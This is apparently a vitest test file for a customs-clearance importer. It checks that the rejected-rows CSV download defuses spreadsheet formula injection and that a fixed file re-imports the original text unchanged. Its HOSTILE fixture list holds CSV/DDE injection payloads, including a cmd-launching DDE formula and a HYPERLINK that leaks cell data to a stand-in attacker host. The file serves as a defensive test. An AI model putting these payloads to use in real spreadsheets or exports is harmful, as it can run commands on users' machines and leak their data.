// The rejected-rows download is opened in a spreadsheet, fixed and imported again: hostile text must not come back
// as a live formula, and the fixed file must store exactly the text of the original rows.
import { cp, mkdtemp, readFile, rm, writeFile } from "node:fs/promises";
import os from "node:os";
import path from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { pool } from "@/lib/pg";
import { db } from "@/lib/db";
import { createImportBatch } from "@/lib/clearance/create-import-batch";
import { runImportBatch } from "@/lib/clearance/run-import-batch";
import { rejectedRowsCsv } from "@/lib/clearance/rejected-row-files";
import { clearClearanceData } from "@/tests/support/clearance-db";

const FIXTURE = path.resolve("tests/fixtures/canonical-small");
const HOSTILE = [
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://attacker.invalid/?leak="&A1,"Click")',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "+1+2",
];
let folder = "";

async function importFolder(location: string) {
  const batchId = await createImportBatch({ kind: "CANONICAL", sourcePath: location });
  await runImportBatch(batchId);
  return batchId;
}

async function download(batchId: number, file: string) {
  let text = "";
  for await (const chunk of rejectedRowsCsv(batchId, file)) text += chunk;
  return text;
}

beforeAll(async () => {
  await clearClearanceData();
  folder = await mkdtemp(path.join(os.tmpdir(), "pmc-rejected-"));
  await cp(FIXTURE, folder, { recursive: true });
  // Items 11–14 of D001 carry hostile descriptions and a net weight that is not a number, so they are rejected.
  const items = await readFile(path.join(folder, "items.csv"), "utf8");
  const hostileRows = HOSTILE.map(
    (text, i) => `D001,${11 + i},85171300,"${text.replaceAll('"', '""')}",CN,not-a-number,10,,,1000,200`,
  );
  await writeFile(path.join(folder, "items.csv"), `${items.trimEnd()}\n${hostileRows.join("\n")}\n`);
});

afterAll(async () => {
  await rm(folder, { recursive: true, force: true });
  await db.$disconnect();
});

describe("rejected-rows download", () => {
  it("defuses every formula cell, and the fixed file imports back to the original text", async () => {
    const batchId = await importFolder(folder);
    const csv = await download(batchId, "items.csv");
    for (const text of HOSTILE) {
      // No cell of the file starts with a formula character: each hostile text is behind one more apostrophe.
      const quoted = `"'${text.replaceAll('"', '""')}"`;
      const plain = `'${text}`;
      expect(csv.includes(`,${quoted},`) || csv.includes(`,${plain},`), text).toBe(true);
    }
    expect(csv).not.toMatch(/(^|,)"?[=+@]/m);

    // The user fixes the weight in the spreadsheet and imports the same file again.
    const fixed = csv.replaceAll(",not-a-number,", ",5,");
    const again = await mkdtemp(path.join(os.tmpdir(), "pmc-rejected-fixed-"));
    try {
      await cp(FIXTURE, again, { recursive: true });
      await writeFile(path.join(again, "items.csv"), fixed);
      await importFolder(again);
    } finally {
      await rm(again, { recursive: true, force: true });
    }
    const { rows } = await pool.query<{ item_no: number; description: string; net_kg: string }>(
      `SELECT item_no, description, net_kg::text FROM items WHERE decl_id = 'D001' AND item_no >= 11 ORDER BY item_no`,
    );
    expect(rows.map((r) => r.description)).toEqual(HOSTILE);
    expect(rows.map((r) => Number(r.net_kg))).toEqual([5, 5, 5, 5]);
  });
});
